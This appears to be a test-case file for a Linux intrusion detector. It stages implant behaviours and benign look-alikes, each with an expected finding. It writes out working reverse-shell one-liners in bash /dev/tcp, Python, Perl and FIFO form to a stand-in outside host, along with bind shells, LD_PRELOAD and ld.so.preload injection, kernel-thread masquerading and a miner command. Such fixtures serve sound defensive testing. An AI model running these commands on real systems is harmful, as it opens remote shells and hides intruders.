# SPDX-License-Identifier: GPL-3.0-or-later
"""Implants among processes and sockets, and the harmless things that look like them."""
import os
import socket
import subprocess

from stage import OUTSIDE, PORT, Case

PY = "/usr/bin/python3"


def shell_bash_tcp(s):
    return s.start(["/bin/bash", "-c", f"exec bash -i >& /dev/tcp/{OUTSIDE}/{PORT} 0>&1"], ready=0)


def shell_direct(s):
    return s.start([s.play("/usr/local/bin/helper1"), "socket", s.far, "/bin/sh"])


def shell_direct_unknown(s):
    hidden = s.play("/home/u/.x/agent")
    return s.start([s.play("/usr/local/bin/helper2"), "socket", s.far, hidden, "stay"])


def shell_python_pty(s):
    return s.start([PY, "-c", f"import socket,os,pty;s=socket.socket();s.connect(('{OUTSIDE}',{PORT}));"
                    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"], ready=0)


def shell_perl(s):
    return s.start(["/usr/bin/perl", "-e", f"use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,"
                    f"sockaddr_in({PORT},inet_aton('{OUTSIDE}')));open(STDIN,'>&S');open(STDOUT,'>&S');"
                    "open(STDERR,'>&S');exec('/bin/sh -i');"], ready=0)


def shell_fifo(s):
    s.play("/usr/local/bin/nc")
    # nc's part: it has the socket, and the pipe from sh as its input.
    r, w = os.pipe()
    nc = s.start(["/usr/local/bin/nc", "pipes", s.far, "/bin/sleep", "600"], stdin=r)
    os.mkfifo("/tmp/f")
    s.conns.append(os.open("/tmp/f", os.O_RDWR))
    cat = subprocess.Popen(["cat", "/tmp/f"], stdout=subprocess.PIPE)
    s.procs.append(cat)
    sh = s.start(["/bin/sh", "-i"], ready=0, stdin=cat.stdout, stdout=w, stderr=w)
    os.close(r)
    os.close(w)
    return nc + sh


def shell_pipes(s):
    return s.start([s.play("/usr/local/bin/ncat"), "pipes", s.far, "/bin/bash", "-i"], ready=2)


def shell_pty(s):
    return s.start([s.play("/usr/local/bin/socat"), "pty", s.far, "/bin/bash"], ready=2)


def shell_pair(s):
    return s.start([s.play("/usr/local/bin/nc.traditional"), "pair", s.far, "/bin/sh"], ready=2)


def shell_pipes_tmp(s):
    return s.start([s.play("/tmp/agent"), "pipes", s.far, "/bin/sh"], ready=2)


def shell_own_socket(s):
    return s.start(["/bin/bash", "-c", f"exec 5<>/dev/tcp/{OUTSIDE}/{PORT}; cat <&5 | while read l; do $l; done"],
                   ready=0)


def shell_python_pipes(s):
    s.put("/tmp/r.py", f"import socket,subprocess\ns=socket.create_connection(('{OUTSIDE}',{PORT}))\n"
          "p=subprocess.Popen(['/bin/sh','-i'],stdin=-1,stdout=-1,stderr=-2)\np.wait()\n")
    return s.start([PY, "/tmp/r.py"], ready=0)


def bind_python(s):
    pids = s.start([PY, "-c", "import socket,os\ns=socket.create_server(('0.0.0.0',7001))\nprint('ready',1,flush=True)\n"
                    "c,_=s.accept()\n[os.dup2(c.fileno(),f) for f in (0,1,2)]\nos.execl('/bin/sh','sh','-i')"])
    s.conns.append(socket.create_connection((OUTSIDE, 7001)))
    return pids


def bind_nc(s):
    s.play("/usr/local/bin/nc.openbsd")
    return s.start(["/usr/local/bin/nc.openbsd", "-l", "7002", "-e", "/bin/sh"])


def bind_socat(s):
    return s.start([s.play("/usr/local/bin/socat"), "listen", "7003", "EXEC:/bin/bash"])


def shell_other_namespace(s):
    play = s.play("/usr/local/bin/ns")
    return s.start(["/usr/bin/unshare", "--net", "/bin/sh", "-c", f"ip link set lo up; {play} listen 9 & sleep .3; "
                    f"exec {play} socket 127.0.0.1:9 /bin/sh"], ready=2)


def pair_other_namespace(s):
    play = s.play("/usr/local/bin/ncat")
    return s.start(["/usr/bin/unshare", "--net", "/bin/sh", "-c", f"ip link set lo up; {play} listen 9 & sleep .3; "
                    f"exec {play} pair 127.0.0.1:9 /bin/sh"], ready=3)


def memory(s):
    return s.start([s.play("/usr/local/bin/loader"), "memory", "app", "x"])


def memory_kernel_name(s):
    return s.start([s.play("/usr/local/bin/loader"), "memory", "[kworker/1:2]", "k"])


def gone_tmp(s):
    pids = s.start([s.play("/tmp/d1"), "stay"])
    os.unlink("/tmp/d1")
    return pids


def gone_shm_packet(s):
    pids = s.start([s.play("/dev/shm/kdmtmpflush"), "packet"], argv0="/sbin/udevd -d")
    os.unlink("/dev/shm/kdmtmpflush")
    return pids


def gone_usr(s):
    pids = s.start([s.play("/usr/local/sbin/updaterd"), "stay"])
    os.unlink("/usr/local/sbin/updaterd")
    return pids


def kernel_argv(s):
    return s.start([s.play("/opt/k"), "stay"], argv0="[kworker/0:1-events]")


def kernel_comm(s):
    return s.start([s.play("/opt/k2"), "comm", "kworker/u4:2", "stay"])


def kernel_padding(s):
    return s.start([s.play("/usr/local/bin/k3"), "stay"], argv0="[ksoftirqd/0]   ")


def place_shm(s):
    return s.start([s.play("/dev/shm/x"), "stay"])


def place_tmp(s):
    return s.start([s.play("/tmp/runner"), "stay"])


def place_hidden_tmp(s):
    return s.start([s.play("/tmp/.ICE/x"), "stay"])


def place_hidden_usr(s):
    return s.start([s.play("/usr/local/lib/.sys/x"), "stay"])


def place_state(s):
    return s.start([s.play("/srv/.data/x"), "stay"])


def mask_sshd(s):
    return s.start([s.play("/opt/m1"), "stay"], argv0="sshd: root@pts/0")


def mask_cron(s):
    return s.start([PY, "-c", "print('ready',1,flush=True);import time;time.sleep(600)"], argv0="/usr/sbin/cron")


def mask_comm(s):
    return s.start([s.play("/opt/m2"), "comm", "systemd-logind", "stay"])


def no_arguments(s):
    return s.start([s.play("/opt/quiet"), "no-arguments"])


def web_shell(s):
    return s.start([s.play("/usr/local/sbin/nginx"), "parent", "/bin/sh"], ready=2, uid=33)


def web_shell_php(s):
    return s.start([s.play("/usr/local/sbin/php-fpm8.2"), "parent", "/bin/sh", "-c", "sleep 600; true"], ready=2, uid=33)


def database_shell(s):
    return s.start([s.play("/usr/local/bin/postgres"), "parent", "/bin/bash", "-i"], ready=2, uid=101)


def service_terminal(s):
    return s.start([s.play("/opt/spawn"), "pty", "-", "/bin/bash"], ready=2, uid=33)


def trace_odd(s):
    victim = s.start([s.play("/usr/local/bin/victim"), "stay"])[0]
    return s.start([s.play("/tmp/inject"), "trace", str(victim)])


def trace_sshd(s):
    victim = s.start([s.play("/usr/local/sbin/sshd"), "stay"])[0]
    return s.start([s.play("/usr/local/bin/strace"), "trace", str(victim)])


def preload_shm(s):
    return s.start([s.play("/usr/local/bin/p1"), "stay"], env={"LD_PRELOAD": "/dev/shm/libx.so"})


def audit_home(s):
    return s.start([s.play("/usr/local/bin/p2"), "stay"], env={"LD_AUDIT": "/home/u/liba.so"})


def preload_hidden(s):
    return s.start([s.play("/usr/local/bin/p3"), "stay"], env={"LD_PRELOAD": "/usr/lib/.x/libc.so.6"})


def miner(s):
    return s.start([s.play("/opt/app"), "stay", "-o", "stratum+tcp://pool.example:3333", "-u", "w"])


def inline_python(s):
    return s.start([PY, "-c", "import base64;exec(base64.b64decode('cHJpbnQoInJlYWR5IDEiLGZsdXNoPVRydWUp'));"
                    "import socket,time;s=socket.socket();time.sleep(600)"])


def inline_bash(s):
    return s.start(["/bin/bash", "-c", "echo ready 1; while sleep 600; do bash -i >& /dev/tcp/192.0.2.1/443 0>&1; done"])


def piped(s):
    curl = s.start([s.play("/usr/local/bin/curl"), "stay"], ready=0, stdout=subprocess.PIPE)
    return s.start(["/bin/bash"], ready=0, stdin=s.procs[-1].stdout) + curl


def mount_over(s):
    pid = s.start([s.play("/usr/local/bin/hid"), "stay"])[0]
    s.put("/srv/empty/x")
    subprocess.run(["mount", "--bind", "/srv/empty", f"/proc/{pid}"], check=True)
    return [pid]


def mount_whole(s):
    """In a mount namespace of its own: its ps shows what is put there."""
    s.start(["/usr/bin/unshare", "--mount", "/bin/sh", "-c", "mount -t tmpfs x /proc; echo ready 1; sleep 600; true"])
    return ["path:/proc"]


def packet_python(s):
    return s.start([PY, "-c", "import socket,time;s=socket.socket(17,3,768);print('ready',1,flush=True);time.sleep(600)"])


def packet_unknown(s):
    return s.start([s.play("/opt/sniff/agent"), "packet"])


def xdp_tmp(s):
    """Many kernels do not list such sockets, which is told; then it is found by its place alone."""
    return s.start([s.play("/var/tmp/x"), "xdp"])


def raw_tmp(s):
    return s.start([s.play("/tmp/r"), "raw"])


def listen_tmp(s):
    return s.start([s.play("/tmp/l"), "listen", "7004"])


def listen_python(s):
    return s.start([PY, "-c", "import socket,time;s=socket.create_server(('0.0.0.0',7005));print('ready',1,flush=True);time.sleep(600)"])


def preload_file(s):
    s.put(s.root + "/etc/ld.so.preload", "/lib/x86_64-linux-gnu/../.so/libselinux.so\n/tmp/l.so\n")
    return ["path:/etc/ld.so.preload"]


# --- twins ---

def ok_sshd_pty(s):
    return s.start([s.play("/usr/local/sbin/sshd"), "pty", s.far, "/bin/bash"], ready=2)


def ok_git_ssh(s):
    return s.start([s.play("/usr/local/sbin/sshd"), "pair", s.far, "/bin/bash", "-c", "sleep 600; true"], ready=2)


def ok_ssh_command(s):
    return s.start([s.play("/usr/local/sbin/sshd"), "pipes", s.far, "/bin/bash"], ready=2)


def ok_socat_service(s):
    s.put("/opt/svc.sh", "sleep 600\n")
    return s.start([s.play("/usr/local/bin/socat"), "pair", s.far, "/bin/bash", "/opt/svc.sh"], ready=2)


def ok_inetd(s):
    s.put("/opt/in.sh", "sleep 600\n")
    return s.start([s.play("/usr/local/sbin/inetd"), "serve", s.far, "/bin/sh", "/opt/in.sh"], ready=2)


def ok_inetd_python(s):
    s.put("/opt/in.py", "import time;time.sleep(600)\n")
    return s.start([s.play("/usr/local/sbin/xinetd"), "serve", s.far, PY, "/opt/in.py"], ready=2)


def ok_git_daemon(s):
    return s.start([s.play("/usr/local/bin/git-daemon"), "serve", s.far, s.play("/usr/local/lib/git-core/git"), "stay"],
                   ready=2)


def ok_venv_server(s):
    os.makedirs("/home/u/app/.venv/bin", exist_ok=True)
    os.symlink(PY, "/home/u/app/.venv/bin/python3")
    return s.start(["/home/u/app/.venv/bin/python3", "-m", "http.server", "7010"], ready=0, cwd="/home/u")


def ok_notebook(s):
    s.put("/home/u/nb.py", "import socket,pty,os,time\ns=socket.create_server(('127.0.0.1',7011))\n"
          f"c=socket.create_connection(('{OUTSIDE}',{PORT}))\npid,m=pty.fork()\n"
          "if not pid: os.execl('/bin/bash','bash')\ntime.sleep(600)\n")
    return s.start([PY, "/home/u/nb.py"], ready=0)


def ok_ci_runner(s):
    return s.start([s.play("/usr/local/bin/gitlab-runner"), "pipes", s.far, "/bin/bash", "--login"], ready=2, uid=999)


def ok_upgraded(s):
    path = s.play("/usr/local/bin/appd")
    pids = s.start([path, "stay"])
    os.unlink(path)
    s.play(path)
    s.put("/var/lib/dpkg/info/appd.list", "/.\n/usr\n/usr/local/bin\n/usr/local/bin/appd\n")
    return pids


def ok_deploy(s):
    path = s.play("/opt/shop/server")
    pids = s.start([path, "listen", "7012"])
    os.unlink(path)
    s.play(path)
    return pids


def ok_appimage(s):
    return s.start([s.play("/tmp/.mount_EditXyz/usr/bin/editor"), "stay"])


def ok_build_test(s):
    return s.start([s.play("/tmp/go-build123/b001/app.test"), "listen", "7013"])


def ok_jemalloc(s):
    return s.start([s.play("/usr/local/bin/db1"), "stay"], env={"LD_PRELOAD": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"})


def ok_fakeroot(s):
    return s.start([s.play("/usr/local/bin/db2"), "stay"], env={"LD_PRELOAD": "libfakeroot-sysv.so"})


def ok_gdb(s):
    return s.start([s.play("/usr/local/bin/gdb"), "trace-child"], ready=2)


def ok_strace(s):
    victim = s.start([s.play("/home/u/bin/prog"), "stay"])[0]
    return s.start([s.play("/usr/local/bin/strace"), "trace", str(victim)]) + [victim]


def ok_title(s):
    return s.start([s.play("/usr/local/sbin/nginx"), "stay"], argv0="nginx: worker process")


def ok_cron_job(s):
    return s.start([s.play("/usr/local/sbin/cron"), "parent", "/bin/sh", "-c", "sleep 600; true"], ready=2)


def ok_archive(s):
    return s.start([s.play("/usr/local/bin/postgres"), "parent", "/bin/sh", "-c", "sleep 600; test -f x"], ready=2, uid=101)


def ok_tmux(s):
    return s.start([s.play("/usr/local/bin/tmux"), "pty", "-", "/bin/bash"], ready=2)


def ok_health(s):
    return s.start(["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/7012; sleep 600; true"], ready=0)


def ok_dhcp(s):
    return s.start([s.play("/usr/local/sbin/dhclient"), "packet"])


def ok_ping(s):
    return s.start([s.play("/usr/local/bin/ping"), "raw"])


def ok_named_script(s):
    s.put("/usr/local/bin/crond", "import time;print('ready',1,flush=True);time.sleep(600)\n")
    return s.start([PY, "/usr/local/bin/crond"], argv0="crond")


def ok_celery_title(s):
    s.put("/opt/worker.py", "import time;print('ready',1,flush=True);time.sleep(600)\n")
    return s.start([PY, "/opt/worker.py"], argv0="[celeryd: w1@host:MainProcess] -active- (worker)")


def ok_port_check(s):
    return s.start(["/bin/bash", "-c", "echo ready 1; while sleep 600; do (echo > /dev/tcp/localhost/80) >/dev/null 2>&1; done"])


def ok_one_liner(s):
    return s.start([PY, "-c", "import subprocess,time;print('ready',1,flush=True);time.sleep(600)"])


def ok_proxied(s):
    return s.start([s.play("/opt/agent/bin/agent"), "pipes", s.far, "/bin/sh", "-c", "sleep 600; true"], ready=2)


def rows(area, table):
    """Every other row of a table is for tuning, the rest is for the report."""
    return [Case(setup.__name__, area, ("tune", "report")[i % 2], setup, expect)
            for i, (setup, expect) in enumerate(table)]


SHELL = {"reverse_shell", "bind_shell"}
CASES = rows("processes", [
    (shell_bash_tcp, SHELL), (shell_direct, SHELL), (shell_direct_unknown, SHELL), (shell_python_pty, SHELL),
    (shell_perl, SHELL), (shell_fifo, SHELL), (shell_pipes, SHELL), (shell_pty, SHELL), (shell_pair, SHELL),
    (shell_pipes_tmp, SHELL), (shell_own_socket, {"shell_socket"}), (shell_python_pipes, SHELL),
    (bind_python, SHELL), (shell_other_namespace, SHELL), (pair_other_namespace, SHELL), (memory, {"memory_program"}), (memory_kernel_name, {"kernel_name"}),
    (gone_tmp, {"deleted_program"}), (gone_shm_packet, {"deleted_program"}), (gone_usr, {"deleted_program"}),
    (kernel_argv, {"kernel_name"}), (kernel_comm, {"kernel_name"}), (kernel_padding, {"kernel_name"}),
    (place_shm, {"odd_place"}), (place_tmp, {"odd_place"}), (place_hidden_tmp, {"odd_place"}),
    (place_hidden_usr, {"odd_place"}), (place_state, {"odd_place"}), (mask_sshd, {"masquerade"}),
    (mask_cron, {"masquerade"}), (mask_comm, {"masquerade"}), (no_arguments, {"no_arguments"}),
    (web_shell, {"service_shell"}), (web_shell_php, {"service_shell"}), (database_shell, {"service_shell"}),
    (service_terminal, {"service_shell"}), (trace_odd, {"tracer"}), (trace_sshd, {"tracer"}),
    (preload_shm, {"preload"}), (audit_home, {"preload"}), (preload_hidden, {"preload"}), (miner, {"miner"}),
    (inline_python, {"inline_code"}), (inline_bash, {"inline_code"}), (piped, {"piped_code"}),
    (mount_over, {"proc_mount"}), (mount_whole, {"proc_mount"}),
]) + rows("sockets", [
    (bind_nc, {"listener"}), (bind_socat, {"listener"}), (packet_python, {"packet_socket"}),
    (packet_unknown, {"packet_socket"}), (xdp_tmp, {"xdp_socket", "odd_place"}), (raw_tmp, {"raw_socket"}), (listen_tmp, {"listener"}),
    (listen_python, {"listener"}),
]) + rows("kernel", [(preload_file, {"preload_file"})]) + rows("processes", [
    (f, None) for f in (
        ok_sshd_pty, ok_git_ssh, ok_ssh_command, ok_socat_service, ok_inetd, ok_inetd_python, ok_git_daemon,
        ok_venv_server, ok_notebook, ok_ci_runner, ok_upgraded, ok_deploy, ok_appimage, ok_build_test, ok_jemalloc,
        ok_fakeroot, ok_gdb, ok_strace, ok_title, ok_cron_job, ok_archive, ok_tmux, ok_health, ok_dhcp, ok_ping,
        ok_named_script, ok_celery_title, ok_port_check, ok_one_liner, ok_proxied)
])
